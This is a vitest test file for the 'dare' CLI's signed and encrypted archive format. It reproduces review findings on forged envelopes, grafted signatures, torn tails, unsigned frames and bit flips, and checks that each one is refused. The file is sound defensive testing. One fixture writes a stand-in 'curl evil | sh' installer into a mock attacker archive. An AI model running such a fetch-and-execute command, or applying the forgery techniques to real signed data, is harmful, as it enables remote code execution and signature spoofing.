/**
 * Issue 12 findings 1, 2, 6, 8 and issue 13 items 6 and 15, each as the attack or the
 * failure the review reproduced through the built CLI: `--signer` must never vouch for
 * data its key did not sign, a torn tail is exit 3, an unsigned tail is named, and a
 * keyless verify says what it did not check.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { appendFileSync, existsSync, mkdirSync, readFileSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { dare, tempDir } from './helpers/dare.js';
import { encodeKeyFile, formatPublicKeySet, generateKeySet, publicKeySet, base64urlEncode, type KeySet } from '../lib/index.js';
import { joinEnvelope, legacySignature, rekeyForgery, splitEnvelope } from '../lib/envelope/forge.test-util.js';
import { unwrapMaster } from '../lib/envelope/recipients.js';
import { apexPreimage, withLastSignatures } from '../lib/sequence/tamper.test-util.js';
import { SequenceReader } from '../lib/sequence/reader.js';
import { SequenceWriter } from '../lib/sequence/writer.js';
import { entryContentMeta } from '../lib/archive/format.js';

const { dir, cleanup } = tempDir('dare-signatures-');
afterAll(cleanup);
const p = (...n: string[]) => join(dir, ...n);
const people: Record<string, KeySet> = {};

beforeAll(async () => {
  for (const who of ['alice', 'bob', 'mallory']) {
    const k = generateKeySet();
    people[who] = k;
    writeFileSync(p(`${who}.key`), await encodeKeyFile(k), { mode: 0o600 });
    writeFileSync(p(`${who}.pub`), formatPublicKeySet(publicKeySet(k)) + '\n');
  }
  mkdirSync(p('tree', 'docs'), { recursive: true });
  writeFileSync(p('tree', 'docs', 'plan.md'), 'the plan\n');
  writeFileSync(p('tree', 'notes.txt'), 'notes\n');
  symlinkSync('docs/plan.md', p('tree', 'link'));
}, 60_000);

function expectNothingIn(d: string): void {
  expect(existsSync(d) ? readdirSync(d, { recursive: true }) : []).toEqual([]);
}

describe('finding 1: a forged envelope is not "signed by alice"', () => {
  it('re-keyed by someone holding only bob.pub: verify and decode with --signer exit 4, no output', async () => {
    writeFileSync(p('invoice.txt'), 'Invoice 17: pay 120 EUR to ACME\n');
    const enc = await dare(['encode', p('invoice.txt'), '-e', p('bob.pub'), '-s', p('alice.key'), '-a', 'Subject: invoice 17', '-o', p('invoice.dare')]);
    expect(enc.code, enc.stderr).toBe(0);
    const forged = await rekeyForgery(readFileSync(p('invoice.dare')), publicKeySet(people.bob as KeySet).encryption, {
      contentMeta: { contentType: 'text/plain', filename: 'invoice-PAY-MALLORY.txt' }, annotations: [Buffer.from('Subject: wire 10000 EUR to Mallory')],
    });
    writeFileSync(p('forged.dare'), forged);
    const v = await dare(['verify', p('forged.dare'), '-i', p('bob.key'), '--signer', p('alice.pub')]);
    expect(v.code, v.stdout + v.stderr).toBe(4);
    expect(v.stdout).not.toMatch(/trusted/);
    const d = await dare(['decode', p('forged.dare'), '-i', p('bob.key'), '--signer', p('alice.pub'), '-o', p('forged.out')]);
    expect(d.code, d.stderr).toBe(4);
    expect(existsSync(p('forged.out'))).toBe(false);
    // The genuine one still passes.
    expect((await dare(['verify', p('invoice.dare'), '-i', p('bob.key'), '--signer', p('alice.pub')])).code).toBe(0);
  });

  it('a signed plaintext envelope with its clear metadata changed: verify --signer exits 4', async () => {
    writeFileSync(p('readme.txt'), 'read me\n');
    expect((await dare(['encode', p('readme.txt'), '-s', p('alice.key'), '-o', p('readme.dare')])).code).toBe(0);
    const text = readFileSync(p('readme.dare'));
    const parts = await splitEnvelope(text);
    expect(parts.header.contentMetaData).toBeDefined();
    const i = text.indexOf(Buffer.from('readme.txt'));
    expect(i).toBeGreaterThan(0);
    const changed = Buffer.from(text);
    changed.write('runme.sh!!', i);
    writeFileSync(p('readme-changed.dare'), changed);
    const v = await dare(['verify', p('readme-changed.dare'), '--signer', p('alice.pub')]);
    expect(v.code, v.stdout + v.stderr).toBe(4);
  });
});

describe('legacy signatures (no purpose): read, reported, trusted only where they bind what is acted on', () => {
  it('an encrypted envelope signed the old way: verify exits 0 with the note (4 with --require-complete), decode --signer refuses unless --allow-legacy-signatures', async () => {
    writeFileSync(p('old.txt'), 'signed before purposes\n');
    expect((await dare(['encode', p('old.txt'), '-e', p('bob.pub'), '-s', p('alice.key'), '-o', p('old-new.dare')])).code).toBe(0);
    const parts = await splitEnvelope(readFileSync(p('old-new.dare')));
    const bob = people.bob as KeySet;
    const master = await unwrapMaster(parts.header.recipients ?? [], [{ crv: bob.encryption.crv, privateKey: bob.encryption.privateKey }]);
    parts.trailer.signatures = [legacySignature(parts.trailer.payloadDigest as Uint8Array, (people.alice as KeySet).signature, { master, salt: parts.header.salt as Uint8Array })];
    writeFileSync(p('old.dare'), joinEnvelope(parts));
    const v = await dare(['verify', p('old.dare'), '-i', p('bob.key'), '--signer', p('alice.pub')]);
    expect(v.code, v.stderr).toBe(0);
    expect(v.stdout).toMatch(/trusted \(legacy signature: it covers the payload only\)/);
    expect((await dare(['verify', p('old.dare'), '-i', p('bob.key'), '--signer', p('alice.pub'), '--require-complete'])).code).toBe(4);
    const d = await dare(['decode', p('old.dare'), '-i', p('bob.key'), '--signer', p('alice.pub'), '-o', p('old.out')]);
    expect(d.code, d.stderr).toBe(4);
    expect(d.stderr).toMatch(/legacy/);
    expect(existsSync(p('old.out'))).toBe(false);
    const ok = await dare(['decode', p('old.dare'), '-i', p('bob.key'), '--signer', p('alice.pub'), '--allow-legacy-signatures', '-o', p('old.out')]);
    expect(ok.code, ok.stderr).toBe(0);
    expect(readFileSync(p('old.out'), 'utf8')).toBe('signed before purposes\n');
  });

  it('an archive signed the old way: refused under --signer, read with --allow-legacy-signatures, re-signed by copy', async () => {
    const fx = new URL('../fixtures/archive/', import.meta.url).pathname;
    const legacy = join(fx, 'v1-signed-legacy.dare');
    const signer = join(fx, 'legacy-signer.pub');
    const v = await dare(['verify', legacy, '--signer', signer]);
    expect(v.code, v.stdout).toBe(4);
    expect(v.stderr).toMatch(/legacy signature/);
    expect((await dare(['list', legacy, '--signer', signer])).code).toBe(4);
    expect((await dare(['list', legacy, '--signer', signer, '--allow-legacy-signatures'])).code).toBe(0);
    const c = await dare(['copy', legacy, p('resigned.dare'), '-s', join(fx, 'signer.key'), '--signer', signer, '--allow-legacy-signatures']);
    expect(c.code, c.stderr).toBe(0);
    const again = await dare(['verify', p('resigned.dare'), '--signer', join(fx, 'signer.pub')]);
    expect(again.code, again.stderr).toBe(0);
  });
});

describe('finding 2: an envelope signature is not an archive signature', () => {
  it('alice signs a 129-byte file; grafted into the attacker\'s archive it does not make "signed by alice"', async () => {
    mkdirSync(p('evil'));
    writeFileSync(p('evil', 'install.sh'), 'curl evil | sh\n');
    expect((await dare(['archive', p('evil.dare'), p('evil'), '--plaintext'])).code).toBe(0);
    const archive = readFileSync(p('evil.dare'));
    writeFileSync(p('sign-me.bin'), await apexPreimage(archive));
    const enc = await dare(['encode', p('sign-me.bin'), '-s', p('alice.key'), '-o', p('sign-me.dare')]);
    expect(enc.code, enc.stderr).toBe(0);
    const sig = (await splitEnvelope(readFileSync(p('sign-me.dare')))).trailer.signatures ?? [];
    writeFileSync(p('evil-signed.dare'), await withLastSignatures(archive, sig));
    const v = await dare(['verify', p('evil-signed.dare'), '--signer', p('alice.pub')]);
    expect(v.code, v.stdout + v.stderr).toBe(4);
    const x = await dare(['extract', p('evil-signed.dare'), p('evil-out'), '--signer', p('alice.pub')]);
    expect(x.code, x.stderr).toBe(4);
    expectNothingIn(p('evil-out'));
  });
});

describe('finding 6: garbage after the signed apex is a torn tail (exit 3)', () => {
  it('verify --signer and extract --signer exit 3 and write nothing', async () => {
    expect((await dare(['archive', p('torn.dare'), p('tree'), '-s', p('alice.key'), '-e', p('bob.pub')])).code).toBe(0);
    appendFileSync(p('torn.dare'), Buffer.from('garbage after the apex, and then some more of it'));
    const v = await dare(['verify', p('torn.dare'), '--signer', p('alice.pub'), '-i', p('bob.key')]);
    expect(v.code, v.stdout + v.stderr).toBe(3);
    expect(v.stderr).toMatch(/torn/);
    const x = await dare(['extract', p('torn.dare'), p('torn-out'), '--signer', p('alice.pub'), '-i', p('bob.key')]);
    expect(x.code, x.stderr).toBe(3);
    expectNothingIn(p('torn-out'));
  });
});

describe('issue 13 item 15: complete but unsigned frames after the last signature', () => {
  it('a log: verify and log verify name the entries and exit 4', async () => {
    const log = p('audit.dlog');
    expect((await dare(['log', 'create', log, '-e', p('alice.pub'), '--sign', p('alice.key')])).code).toBe(0);
    expect((await dare(['log', 'append', log, 'one', '--sign', p('alice.key')])).code).toBe(0);
    // Unsigned appends that trust Alice's signature for the log's recipients (or give them with -e).
    expect((await dare(['log', 'append', log, 'two', '--signer', p('alice.pub')])).code).toBe(0);
    expect((await dare(['log', 'append', log, 'three', '-e', p('alice.pub')])).code).toBe(0);
    for (const args of [['log', 'verify', log], ['verify', log]]) {
      const r = await dare([...args, '--signer', p('alice.pub')]);
      expect(r.code, r.stderr).toBe(4);
      expect(r.stderr).toContain('entries 2-3 after the last signature (entry 1): unsigned');
    }
  });

  it('an archive: verify and extract name the frames and exit 4', async () => {
    const file = p('crashed.dare');
    expect((await dare(['archive', file, p('tree'), '-s', p('alice.key'), '-e', p('bob.pub')])).code).toBe(0);
    const before = await SequenceReader.open(file);
    const signed = before.last.index;
    await before.close();
    // A session that died before its index: two entry frames, complete, unsigned.
    const w = await SequenceWriter.open(file);
    for (const name of ['late-1.txt', 'late-2.txt']) {
      await w.append(Buffer.from(name), { contentMeta: entryContentMeta({ path: name, kind: 'file', size: name.length, mode: 0o644, modified: new Date(0).toISOString() }) });
    }
    await w.close();
    const want = `frames ${signed + 1}-${signed + 2} after the last signature (frame ${signed}): unsigned`;
    const v = await dare(['verify', file, '--signer', p('alice.pub'), '-i', p('bob.key')]);
    expect(v.code, v.stderr).toBe(4);
    expect(v.stderr).toContain(want);
    const x = await dare(['extract', file, p('crashed-out'), '--signer', p('alice.pub'), '-i', p('bob.key')]);
    expect(x.code, x.stderr).toBe(4);
    expect(x.stderr).toContain(want);
    expectNothingIn(p('crashed-out'));
  });
});

describe('finding 8: extract trusts no less than verify', () => {
  const file = () => p('flip.dare');
  beforeAll(async () => {
    expect((await dare(['archive', file(), p('tree'), '-s', p('alice.key'), '-e', p('bob.pub')])).code).toBe(0);
  });

  async function flipped(name: string, find: (seq: SequenceReader, bytes: Buffer) => Promise<number>, text: boolean): Promise<string> {
    const bytes = readFileSync(file());
    const bob = people.bob as KeySet;
    const seq = await SequenceReader.open(file(), { keys: [{ crv: bob.encryption.crv, privateKey: bob.encryption.privateKey }] });
    const at = await find(seq, bytes);
    await seq.close();
    expect(at).toBeGreaterThan(0);
    const out = Buffer.from(bytes);
    // In JSON text (frame 0's policy) a flipped bit may leave the base64url alphabet (exit 3);
    // change the character to its neighbour in the alphabet instead, so the value still parses.
    const b64 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
    const i = b64.indexOf(String.fromCharCode(out[at] as number));
    out[at] = text && i >= 0 ? b64.charCodeAt((i + 1) % 64) : (out[at] as number) ^ 0x04;
    writeFileSync(p(name), out);
    return p(name);
  }

  const cases: [string, (seq: SequenceReader, bytes: Buffer) => Promise<number>, string[]][] = [
    ['frame 0\'s policy (an encryption key)', async (_seq, bytes) => bytes.indexOf(Buffer.from(base64urlEncode(publicKeySet(people.bob as KeySet).encryption.publicKey))) + 5, ['--file', 'tree/notes.txt']],
    ['a folder frame\'s PayloadMac', async (seq, bytes) => {
      for await (const v of seq.frames(1)) {
        const o = await seq.open(v);
        if (o.contentMeta?.filename === 'tree/docs') return bytes.indexOf(Buffer.from(v.trailer?.payloadMac as Uint8Array), v.position) + 3;
      }
      return -1;
    }, ['--file', 'tree/docs']],
    ['a trailer TreeDigest outside the signature check', async (seq, bytes) => {
      const v = await seq.frame(1);
      return bytes.indexOf(Buffer.from(v.trailer?.treeDigest as Uint8Array), v.position) + 7;
    }, []],
  ];
  for (const [what, find, one] of cases) {
    it(`a flip in ${what}: extract --signer exits 4 and writes nothing`, async () => {
      const f = await flipped(`flip-${cases.findIndex((c) => c[0] === what)}.dare`, find, what.startsWith('frame 0'));
      const out = `${f}.out`;
      const x = await dare(['extract', f, out, '--signer', p('alice.pub'), '-i', p('bob.key')]);
      expect(x.code, x.stderr).toBe(4);
      expectNothingIn(out);
      if (one.length) {
        const y = await dare(['extract', f, `${out}-one`, '--signer', p('alice.pub'), '-i', p('bob.key'), ...one]);
        expect(y.code, y.stderr).toBe(4);
        expectNothingIn(`${out}-one`);
      }
    });
  }
});

describe('issue 13 item 6: a keyless verify says what it did not check', () => {
  it('an encrypted envelope: the note, and --require-complete exits 4 without the key, 0 with it', async () => {
    writeFileSync(p('memo.txt'), 'memo\n');
    expect((await dare(['encode', p('memo.txt'), '-e', p('bob.pub'), '-s', p('alice.key'), '-a', 'Subject: memo', '-o', p('memo.dare')])).code).toBe(0);
    const keyless = await dare(['verify', p('memo.dare'), '--signer', p('alice.pub')]);
    expect(keyless.code, keyless.stderr).toBe(0);
    expect(keyless.stdout).toContain('metadata and annotations not checked (no key)');
    const strict = await dare(['verify', p('memo.dare'), '--signer', p('alice.pub'), '--require-complete']);
    expect(strict.code, strict.stdout + strict.stderr).toBe(4);
    const keyed = await dare(['verify', p('memo.dare'), '--signer', p('alice.pub'), '-i', p('bob.key'), '--require-complete']);
    expect(keyed.code, keyed.stderr).toBe(0);
  });

  it('an encrypted archive: the sequence equivalent, and --require-complete', async () => {
    const file = p('keyless.dare');
    expect((await dare(['archive', file, p('tree'), '-s', p('alice.key'), '-e', p('bob.pub')])).code).toBe(0);
    const keyless = await dare(['verify', file, '--signer', p('alice.pub')]);
    expect(keyless.code, keyless.stderr).toBe(0);
    expect(keyless.stdout).toContain('metadata, index and macs not checked (no key)');
    expect((await dare(['verify', file, '--signer', p('alice.pub'), '--require-complete'])).code).toBe(4);
    const keyed = await dare(['verify', file, '--signer', p('alice.pub'), '-i', p('bob.key'), '--require-complete']);
    expect(keyed.code, keyed.stderr).toBe(0);
  });
});
